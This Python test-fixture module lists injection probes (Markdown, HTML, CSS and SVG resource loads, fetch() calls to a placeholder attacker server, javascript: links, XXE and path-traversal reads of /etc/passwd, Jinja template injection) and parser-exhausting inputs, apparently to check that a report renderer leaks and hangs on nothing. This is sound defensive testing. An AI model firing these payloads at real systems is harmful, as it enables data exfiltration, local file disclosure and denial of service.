"""What attackers write: texts that would load something, and texts that would never end.

Each probe of `PROBES` tries a way of its own to reach an address or a file. `{u}` is a server
that must hear nothing, `{h}` its host and port, `{f}` a file that nobody may open.
"""

# ruff: noqa: E501 - probes are quoted as attackers write them

from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

from tests.reports import factories

PROBES: Final[dict[str, str]] = {
    # Markdown
    "picture": "![x]({u}/picture.png)",
    "picture with title": '![x]({u}/titled.png "t")',
    "picture in brackets": "![x](<{u}/bracketed.png>)",
    "picture by reference": "![x][p]\n\n[p]: {u}/reference.png",
    "picture in a link": "[![x]({u}/inner.png)]({u}/outer)",
    "picture from a file": "![x](file://{f})",
    "picture of data": "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "link": "[x]({u}/link)",
    "link by reference": "[x][r]\n\n[r]: {u}/named",
    "autolink": "<{u}/auto>",
    "bare address": "{u}/bare",
    "mail address": "<attacker@{h}>",
    "footnote": "x[^1]\n\n[^1]: ![x]({u}/footnote.png)",
    "attr_list": '# x {{: style="background:url({u}/attr-list)" }}',
    "attr_list source": "*x*{{: src={u}/attr-source onclick=alert(1) }}",
    "admonition": '!!! note "![x]({u}/title.png)"\n    ![x]({u}/body.png)',
    "definition": "![x]({u}/term.png)\n:   ![x]({u}/meaning.png)",
    "table cell": "|![x]({u}/head.png)|\n|-|\n|![x]({u}/cell.png)|",
    "fence": "```{{: .x src={u}/fence }}\nx\n```",
    "script link": "[x](javascript:fetch('{u}/js'))",
    "script link with a tab": "[x](java&#9;script:fetch('{u}/tab'))",
    # HTML that loads
    "img": "<img src={u}/img>",
    "img in capitals": "<ImG SrC={U}/CAPITALS>",
    "img without a space": "<img/src={u}/slash>",
    "img with a newline": "<img\nsrc\n=\n'{u}/newline'>",
    "img with a null": "<img src='\0{u}/null'>",
    "img with control characters": "<img src='\x01\x02ht\ntp://{h}/control'>",
    "img by entities": "<img src='&#104;ttp://{h}/entity'>",
    "img without a scheme": "<img src='//{h}/relative'>",
    "img with backslashes": "<img src='\\\\{h}\\share\\x.png'>",
    "img with a mixed slash": "<img src='http:/\\{h}/mixed'>",
    "img of a file": "<img src='file://{f}'>",
    "img of a local host": "<img src='file://localhost{f}'>",
    "img of a path": "<img src='{f}'>",
    "img of a path upwards": "<img src='../../../../../../../..{f}'>",
    "img of a host by file": "<img src='file://{h}/share/x.png'>",
    "srcset": "<img srcset='{u}/set 1x, {u}/set2 2x'>",
    "picture element": "<picture><source srcset={u}/source><img src={u}/fallback></picture>",
    "video": "<video src={u}/video poster={u}/poster><track src={u}/track></video>",
    "audio": "<audio src={u}/audio autoplay></audio>",
    "object": "<object data={u}/object type=image/svg+xml></object>",
    "embed": "<embed src={u}/embed type=image/svg+xml>",
    "applet": "<applet code=x codebase={u}/applet></applet>",
    "iframe": "<iframe src={u}/frame></iframe>",
    "iframe of a document": "<iframe srcdoc='<img src={u}/srcdoc>'></iframe>",
    "frameset": "<frameset><frame src={u}/frameset></frameset>",
    "input": "<input type=image src={u}/input>",
    "form": "<form action={u}/form><button formaction={u}/button>x</button></form>",
    "ping": "<a href=#x ping={u}/ping>x</a>",
    "table background": "<table background={u}/table><tr><td background={u}/cell>x</table>",
    "body background": "<body background={u}/body>",
    "script": "<script src={u}/script></script><script>fetch('{u}/fetch')</script>",
    "handler": "<img src=x onerror=\"fetch('{u}/handler')\">",
    "base": "<base href={u}/><img src=based>",
    "refresh": "<meta http-equiv=refresh content='0;url={u}/refresh'>",
    "sheet": "<link rel=stylesheet href={u}/sheet.css>",
    "sheet of a file": "<link rel=stylesheet href='file://{f}'>",
    "icon": "<link rel='shortcut icon' href={u}/icon>",
    "prefetch": "<link rel=prefetch href={u}/prefetch><link rel=preconnect href={u}>",
    "preload": "<link rel=preload as=font href={u}/preload><link rel=dns-prefetch href=//{h}>",
    "import of HTML": "<link rel=import href={u}/import>",
    "manifest": "<link rel=manifest href={u}/manifest>",
    "attachment": "<link rel=attachment href={u}/attachment>",
    "attachment of a file": "<link rel=attachment href='file://{f}'>",
    "attached link": "<a rel=attachment href='file://{f}'>x</a>",
    "conditional comment": "<!--[if IE]><img src={u}/conditional><![endif]-->",
    "broken comment": "<!--><img src={u}/comment>-->",
    "noscript": "<noscript><p title='</noscript><img src={u}/noscript>'></noscript>",
    "template": "<template><img src={u}/template></template>",
    "broken out of the table": "</td></tr></table></section><img src={u}/broken-out>",
    "broken out of an attribute": "\"><img src={u}/attribute> '><img src={u}/attribute2>",
    "broken tag": "<<img src={u}/broken //<p>",
    # Styles
    "style import": "<style>@import url({u}/import);</style>",
    "style import of text": "<style>@import '{u}/import-text' screen;</style>",
    "style import with layers": "<style>@import '{u}/layer' layer(x) supports(color: red);</style>",
    "style font": "<style>@font-face {{ font-family: x; src: url({u}/font.woff2) }} * {{ font-family: x }}</style>",
    "style font of a file": "<style>@font-face {{ font-family: x; src: url(file://{f}), local(x) }} * {{ font-family: x }}</style>",
    "style background": "<p style='background:url({u}/style)'>x</p>",
    "style with an escape": "<p style='background:\\75\\72\\6c({u}/escaped)'>x</p>",
    "style with a comment": "<p style='background:u/**/rl({u}/split);background:url(/**/{u}/comment)'>x</p>",
    "style in capitals": "<p style='BACKGROUND-IMAGE:URL({u}/URL)'>x</p>",
    "style without a scheme": "<p style='background:url(//{h}/bare)'>x</p>",
    "style by a variable": "<p style='--u:url({u}/variable);background:var(--u)'>x</p>",
    "style image-set": "<p style=\"background:image-set('{u}/set' 1x)\">x</p>",
    "style list": "<ul style='list-style-image:url({u}/list)'><li>x</ul>",
    "style cursor": "<p style='cursor:url({u}/cursor),auto'>x</p>",
    "style content": "<style>p::before {{ content: url({u}/content) }} p {{ content: url({u}/element) }}</style><p>x",
    "style counter": "<style>@counter-style x {{ symbols: url({u}/symbol) }} ol {{ list-style: x }}</style><ol><li>x</ol>",
    "style target": "<style>a::after {{ content: target-text(url({u}/target)) target-counter(url('{u}/counter'), page) }}</style><a>x</a>",
    "style border": "<p style='border:1em solid;border-image:url({u}/border) 1'>x</p>",
    "style mask": "<p style='mask:url({u}/mask);clip-path:url({u}/clip#a);filter:url({u}/filter#a)'>x</p>",
    "style page": "<style>@page {{ background: url({u}/page); @top-left {{ content: url({u}/margin) }} }}</style>",
    "style profile": "<style>@color-profile --x {{ src: url({u}/profile.icc) }} p {{ color: color(--x 1 0 0) }}</style>",
    "style namespace": "<style>@namespace x url({u}/namespace); @document url({u}/document) {{ p {{ color: red }} }}</style>",
    "style bookmark": "<p style='bookmark-label:url({u}/label);string-set:x url({u}/string)'>x</p>",
    "style behaviour": "<p style='behavior:url({u}/htc);-moz-binding:url({u}/xbl#x)'>x</p>",
    # Drawings
    "svg image": "<svg width=9 height=9><image href='{u}/svg' width=9 height=9 /></svg>",
    "svg image by xlink": "<svg width=9 height=9 xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{u}/xlink' width=9 height=9 /></svg>",
    "svg image of a file": "<svg width=9 height=9><image href='file://{f}' width=9 height=9 /></svg>",
    "svg use": "<svg width=9 height=9><use href='{u}/use.svg#a'/></svg>",
    "svg use of a file": "<svg width=9 height=9><use href='file://{f}#a'/></svg>",
    "svg filter": "<svg width=9 height=9><filter id=a><feImage href='{u}/fe'/></filter><rect width=9 height=9 filter='url(#a)'/></svg>",
    "svg script": "<svg width=9 height=9><script href='{u}/svg-script'>fetch('{u}/x')</script></svg>",
    "svg foreign": "<svg width=9 height=9><foreignObject width=9 height=9><img src='{u}/foreign'/></foreignObject></svg>",
    "svg style": "<svg width=9 height=9><style>@import '{u}/svg-import'; rect {{ fill: url({u}/svg-fill#a) }}</style><rect width=9 height=9 /></svg>",
    "svg sheet": "<?xml-stylesheet href='{u}/svg-sheet.css'?><svg width=9 height=9><rect fill='url({u}/paint#a)' width=9 height=9 /></svg>",
    "svg gradient": "<svg width=9 height=9><linearGradient id=a href='{u}/gradient#b'/><rect width=9 height=9 fill='url(#a)'/></svg>",
    "svg animation": "<svg width=9 height=9><image width=9 height=9><set attributeName=href to='{u}/set'/></image></svg>",
    "svg marker": "<svg width=9 height=9><path d='M0 0 9 9' marker-start='url({u}/marker#a)' mask='url({u}/mask#a)' clip-path='url({u}/clip#a)'/></svg>",
    "svg link": "<svg width=9 height=9><a href='{u}/svg-link'><text y=9>x</text></a></svg>",
    "svg as data": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><image href=\"{u}/data\" width=\"9\" height=\"9\"/></svg>'>",
    "svg as a png": "<img src='data:image/png,<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><image href=\"{u}/png\" width=\"9\" height=\"9\"/></svg>'>",
    "svg in svg": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><image href=\"data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22{u}/nested%22/%3E%3C/svg%3E\"/></svg>'>",
    "external entity": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{u}/entity">]><a>&x;</a>',
    "entity of a file": "<img src='data:image/svg+xml,<!DOCTYPE svg [<!ENTITY x SYSTEM \"file://{f}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>'>",
    "document type": '<!DOCTYPE html SYSTEM "{u}/dtd">',
    "include of xml": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{f}'/>",
    "math": "<math><mtext href='{u}/math'><img src='{u}/mtext'></mtext></math>",
    # Templates
    "template of Jinja": "{{{{ ''.__class__.__mro__ }}}} {{% include '{f}' %}} {{{{ 7 * 191 }}}}",
    "other schemes": "<img src='ftp://{h}/ftp'><img src='gopher://{h}/gopher'><img src='jar:{u}/jar!/x'><img src='blob:{u}/blob'>",
    "our scheme": "<img src='hotwash:fonts/../../../../..{f}'><img src='hotwash:house/../audiences.toml'>",
}  # fmt: skip

_WORD = "Evidence of the third party "
HEAVY: Final[dict[str, str]] = {
    # Markup of Markdown
    "quotes": ">" * 5000 + " deep",
    "quotes with spaces": "> " * 4000 + "deep",
    "lists": "\n".join("    " * depth + "- a" for depth in range(300)),
    "lists in quotes": "\n".join("> " * depth + "- a" for depth in range(1, 200)),
    "numbered lists": "\n".join("    " * (n % 11) + f"{n}. a" for n in range(3000)),
    "many items": "- a\n" * 9000,
    "brackets": "[" * 20000,
    "closed brackets": "[" * 3000 + "]" * 3000,
    "pictures": "![" * 9000,
    "links": "[a](" * 8000,
    "whole links": "[link](x)" * 3000,
    "references": "[]:0" + " " * 20000 + "0",
    "named references": "\n".join(f"[r{n}]: /{n}" for n in range(2000)) + "\n\n[r1]" * 2000,
    "stars": "*a " * 15000,
    "stars unclosed": "**a*b" * 6000,
    "star runs": "*" * 30000 + "a" + "*" * 30000,
    "underscores": "_" * 30000,
    "underscore words": "_a_b" * 7000,
    "backticks": "`" * 20001,
    "growing backticks": " ".join("`" * n for n in range(1, 240)),
    "fence that stays open": "```" + " " * 20000,
    "fences": "```\nx\n" * 4000,
    "tildes": "~" * 30000,
    "headings": "#" * 30000,
    "heading lines": "# a\n" * 6000,
    "rules": "- " * 14000 + "x",
    "underlines": "a\n" + "=" * 28000,
    "ampersands": "&" * 30000,
    "backslashes": "\\" * 30000,
    "table": "|a" * 3000 + "\n" + "|-" * 3000 + "\n" + "|b" * 3000,
    "long table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 4500,
    "pipes": "|" * 29000,
    "definitions": "a\n:   b\n\n" * 3000,
    "admonitions": "".join("    " * (n % 9) + "!!! note\n" for n in range(1500)),
    "attribute lists": "a {: " + "x=1 " * 7000 + "}",
    # Markup of HTML
    "divs": "<div>" * 5000,
    "div of 137": "<div>" * 137 + "x" + "</div>" * 137,
    "spans": "<span>" * 3000 + "x",
    "tables": "<table><tr><td>" * 900,
    "cells": "<table><tr>" + "<td>x" * 5000,
    "spanning cells": "<table><tr><td colspan=99999999 rowspan=99999999>x</table>",
    "wide style": "<p style='width:1e38px;margin:-1e38em;font-size:9999999px'>x</p>",
    "comments": "<!--" * 9000,
    "declarations": "<![" * 9000,
    "declaration of 2025": "<![ x",
    "processing": "<?" * 9000,
    "open tag": "<a " + "x" * 25000,
    "attributes": "<a " + "x=1 " * 7000 + ">",
    "repeated tag": '<p m="1"' * 1500 + " " * 1500 + "</div",
    "entities": "&#x41;" * 5000,
    "huge entity": "&#" + "9" * 20000 + ";",
    "entities of xml": "<!ENTITY a 'aaaaaaaaaa'>" + "&a;" * 9000,
    # Words and characters
    "one word": "w" * 50000,
    "long word with spaces": "-" * 160 + "\u00a0\u00a0\n" + "w" * 4000 + "\u00a0x",
    "slashes": "/" * 20000,
    "paths": "C:\\Windows\\System32\\" * 1400,
    "wide word": "﷽" * 3000,
    "combining": "a" + "\u0301" * 20000,
    "zalgo": "".join(c + "".join(map(chr, range(0x300, 0x340))) for c in "Invoice" * 40),
    "zero width": "a\u200b\u200c\u200d\ufeff\u2060" * 5000,
    "soft hyphens": "a\u00ad" * 12000,
    "joined": "👩\u200d" * 6000,
    "emoji": "👩‍👩‍👧‍👦🏴‍☠️✅" * 200,
    "flags": "🇺🇦🇩🇰" * 3000,
    "variation": "❤\ufe0f\ufe0e" * 6000,
    "rtl": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "deep embeddings": "\u202b\u2067a" * 4000,
    "mixed directions": "abc שלום 123 مرحبا " * 1200,
    "controls": "".join(map(chr, range(32))) + "\x7f\x85\ufeff\ufffe\uffff",
    "surrogates": "a\ud800b\udfffc" * 500,
    "private": "\ue000\uf8ff\U000f0000\U0010fffd" * 3000,
    "tags of Unicode": "a" + "".join(map(chr, range(0xE0020, 0xE007F))) * 100,
    "unassigned": "\U0003fffe\U0008fffe\u0378" * 3000,
    "all scripts": "".join(map(chr, range(0x100, 0x2FFF))),
    "hangul": "\u1100\u1161\u11a8" * 5000,
    "indic": "क्ष्म्य" * 3000,
    "newlines": "\n" * 30000,
    "odd newlines": "a\r\u2028b\u2029\x0b\x0c\x85" * 3000,
    "tabs": "\t" * 20000 + "x",
    "spaces": " " * 29000 + "x",
    "dots": "a." * 20000,
    "colons": ":" * 20000 + "f:" * 9000,
    "addresses": "http://" * 4000 + "a.b.c@" * 2000,
    "numbers": "9" * 29000,
    "ellipses": "…" * 20000,
    "prose": (_WORD * 9 + "\n") * 600,
}  # fmt: skip

_STRUCTURAL: Final = {"id", "tlp", "ref", "kind"}


def aimed(probe: str, host: str, file: Path | str = "/etc/passwd") -> str:
    """A probe that leads to this host and this file."""
    address = f"http://{host}"
    return probe.format(u=address, U=address.upper(), h=host, f=file)


def poisoned(*texts: str, shares: int = 1) -> dict[str, Any]:
    """A record with these texts in every place that takes text.

    Each place holds every text, or every so-maniest, the next place the next ones; where a list
    has the same place in several rows, the rows share them, as a template prints rows alike.
    """
    rows: Counter[str] = Counter()
    seen: Counter[str] = Counter()
    places: dict[str, int] = {}

    def part(place: str) -> str:
        row, seen[place] = seen[place], seen[place] + 1
        own = texts[places.setdefault(place, len(places)) % shares :: shares]
        return "\n\n".join(own[row :: rows[place]] or (own[row % len(own)],))

    def counted(place: str) -> str:
        rows[place] += 1
        return ""

    record = factories.full()
    _at_each_place(record, counted)
    return _at_each_place(record, part)  # type: ignore[no-any-return]


def _at_each_place(value: Any, text: Callable[[str], str], place: str = "") -> Any:  # noqa: ANN401 - any JSON value
    """The record with a text for each place, which is called by its names without the rows'."""
    if isinstance(value, dict):
        return {key: _at_each_place(item, text, f"{place}.{key}") for key, item in value.items()}
    if isinstance(value, list):
        return [_at_each_place(item, text, place) for item in value]
    name = place.rpartition(".")[2]
    kept = name in _STRUCTURAL or name.endswith(("_at", "_id", "_ids", "at", "precision"))
    return text(place) if isinstance(value, str) and value and not kept else value
